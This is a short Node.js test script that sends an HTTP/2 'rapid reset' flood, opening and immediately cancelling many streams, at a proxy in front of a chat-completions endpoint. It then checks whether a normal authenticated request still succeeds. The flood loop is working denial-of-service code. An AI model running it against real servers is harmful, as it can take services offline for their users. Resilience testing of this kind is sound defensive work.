// HTTP/2 abuse against the terminating proxy: N streams opened and reset at
// once (the "rapid reset" pattern), then a normal call on a fresh session.
// Prints one JSON line: streams opened, stream errors, session errors, and
// the status of the normal call. Node's built-in http2 client only.
import fs from "node:fs";
import http2 from "node:http2";

const [ca, addr, port, host, n] = process.argv.slice(2);
const opts = { ca: fs.readFileSync(ca), servername: host };
const result = { opened: 0, stream_errors: 0, session_errors: 0, status: null };

const flood = http2.connect(`https://${addr}:${port}`, opts);
flood.on("error", () => result.session_errors++);
for (let i = 0; i < Number(n); i++) {
  const req = flood.request({
    ":method": "POST",
    ":path": "/v1/chat/completions",
    ":authority": host,
    "content-type": "application/json",
  });
  req.on("error", () => result.stream_errors++);
  result.opened++;
  req.close(http2.constants.NGHTTP2_CANCEL);
}

setTimeout(() => {
  const s = http2.connect(`https://${addr}:${port}`, opts);
  s.on("error", (e) => {
    result.status = String(e);
    finish(s);
  });
  const req = s.request({
    ":method": "POST",
    ":path": "/v1/chat/completions",
    ":authority": host,
    "content-type": "application/json",
    authorization: "Bearer sk-test-h2",
  });
  req.on("response", (h) => (result.status = h[":status"]));
  req.on("data", () => {});
  req.on("end", () => finish(s));
  req.end(JSON.stringify({ model: "gpt-4o-mini", messages: [] }));
}, 1000);

function finish(s) {
  console.log(JSON.stringify(result));
  flood.destroy();
  s.close();
}
